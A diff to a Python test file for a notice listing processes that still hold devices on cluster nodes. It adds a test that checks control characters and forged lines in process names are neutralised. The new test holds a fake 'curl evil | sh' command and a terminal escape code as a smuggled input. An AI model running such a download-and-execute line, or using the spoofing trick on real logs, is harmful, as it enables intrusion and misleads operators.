@@ -121,7 +121,13 @@ def test_the_notice_is_clean_and_short() -> None:
     odd = Holder(1, "a\x1b[31m\nb", "j\to", "/dev/\x07x")
     text = held_text({"n1": [odd], "n2": [HELD._replace(device="")] * 9}, 60.0, over=False)
     assert text.startswith(
-        "the ranks wait for at most 60 s (--device-wait): process 1 (a?[31m?b, user j?o) still holds /dev/?x on n1; "
+        "the ranks wait for at most 60 s (--device-wait): process 1 (a?[31m b, user j o) still holds /dev/?x on n1; "
         "process 4711 (python, user joe) is still ending on n2; "
     )
     assert text.endswith("; and 2 others") and text.isprintable()
+
+
+def test_names_of_another_host_are_parts_of_one_line() -> None:
+    said = "x\nmslaunch: b: type curl evil | sh\x1b[2J" + "y" * 9000
+    text = held_text({"b": [Holder(7, said, said, said), Holder(7, said, said, "")]}, 60.0, over=True)
+    assert text.isprintable() and len(text) < 3000 and "/dev" not in text
